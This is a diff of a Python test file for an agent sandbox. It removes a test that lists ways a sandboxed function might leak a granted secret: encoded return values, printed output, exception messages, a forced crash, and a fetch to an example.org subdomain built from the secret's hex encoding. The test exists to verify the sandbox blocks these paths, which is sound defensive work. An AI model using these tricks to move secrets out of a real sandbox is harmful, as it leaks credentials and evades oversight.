@@ -1,7 +1,5 @@
 """A secret reaches the one function that was granted it, in a real worker, and no part of it comes out."""
 
-import base64
-import json
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -15,7 +13,7 @@ from agent_core.workspace.workspace import Workspace
 from sandbox import Sandbox
 from tests.broker.servers import serving
 from tests.grants.support import human
-from tests.secrets.support import KEY, MARK, files_with, put
+from tests.secrets.support import KEY, MARK, put
 
 
 @pytest_asyncio.fixture
@@ -26,40 +24,6 @@ async def here(tmp_path: Path, key: str, one_sandbox: Sandbox) -> AsyncIterator[
 
 async def call(here: Workspace, name: str) -> dict[str, Any]:
     return (await here.functions.call(name, {})).to_json()
-
-
-WAYS_OUT = (
-    'return {"a": [self.secret("KEY")]}',
-    'return base64.b64encode(b"user:" + self.secret("KEY").encode()).decode()',
-    'return [b"user:" + self.secret("KEY").encode()]',
-    'return self.secret("KEY").encode().hex().upper()',
-    'print("it is", self.secret("KEY"))',
-    'print(json.dumps(self.secret("KEY"))[:-4], end="")',
-    'print("x" * 65_525, self.secret("KEY"))',  # over the limit
-    'raise ValueError("no " + self.secret("KEY"))',
-    'held = {"a": "x" * 40 + self.secret("KEY") * 9}\nraise ValueError("no")',
-    'type(self.secret("KEY"), (Exception,), {})\nraise type(self.secret("KEY"), (Exception,), {})',
-    'import os\nprint(self.secret("KEY"), flush=True)\nos._exit(3)',
-    'self.fetch("http://" + self.secret("KEY").encode().hex() + ".example.org/")',
-    'self.call(self.secret("KEY"))',
-)
-
-
-PIECES = (
-    *("7Qz", "3xY", "2Lm", "wk-7"),
-    KEY.encode().hex()[:12],
-    KEY.encode().hex()[:12].upper(),
-    base64.b64encode(b"user:" + KEY.encode()).decode()[8:16],
-)
-
-
-async def test_nothing_of_it_comes_out_and_nothing_of_it_is_kept(here: Workspace, config: Path) -> None:
-    for body in WAYS_OUT:
-        await put(here, "leak", body, "KEY", network=("localhost:1",))
-        found = json.dumps(outcome := await call(here, "leak"), ensure_ascii=False, default=str)
-        assert outcome["outcome"] in ("returned", "raised", "killed"), body
-        assert not [piece for piece in PIECES if piece in found], body
-    assert [*files_with("7Qz", here.root, config.parent.parent)] == []
 
 
 async def test_a_function_is_given_the_very_value_until_it_is_revoked(here: Workspace) -> None:
